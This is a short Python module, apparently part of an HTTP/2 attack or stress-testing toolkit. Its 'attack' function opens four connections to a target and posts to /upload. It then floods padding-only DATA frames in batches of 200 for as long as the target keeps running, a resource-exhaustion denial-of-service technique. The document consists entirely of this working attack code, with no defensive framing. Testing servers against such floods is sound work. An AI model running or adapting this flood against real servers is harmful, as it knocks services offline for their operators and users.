"""DATA frames that are padding alone."""

from wire.http2 import DATA, ask, frame, http2

PADDED = 8


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            if it:
                await it.send(ask(1, b"POST", b"/upload"))
            while it and target.goes_on():
                await it.send(frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 200)

    await target.lanes(4, lane)
